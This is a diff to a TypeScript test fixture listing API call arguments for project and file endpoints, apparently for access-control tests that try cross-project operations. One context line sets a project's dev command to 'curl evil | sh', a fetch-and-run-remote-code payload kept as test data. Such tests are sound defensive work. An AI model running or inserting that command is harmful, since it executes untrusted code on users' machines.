@@ -57,6 +57,13 @@ const argumentsFor: Record<string, (f: Fixture) => Args[]> = {
   "projects:updateSettings": ({ one }) => [{ projectId: one.projectId, settings: { devCommand: "curl evil | sh" } }],
 
   "files:tree": ({ one }) => [{ projectId: one.projectId }],
+  "files:listing": ({ one }) => [{ projectId: one.projectId }],
+  "files:listingBucket": ({ one }) => [{ projectId: one.projectId, bucket: 0 }],
+  "files:createMany": ({ one, own }) => [
+    { projectId: one.projectId, items: [{ name: "evil.ts", content: "x" }] },
+    { projectId: one.projectId, parentId: one.folderId, items: [{ name: "evil", type: "folder" }] },
+    { projectId: own.projectId, parentId: one.folderId, items: [{ name: "evil.ts" }] },
+  ],
   "files:children": ({ one, own }) => [
     { projectId: one.projectId },
     { projectId: one.projectId, parentId: one.folderId },
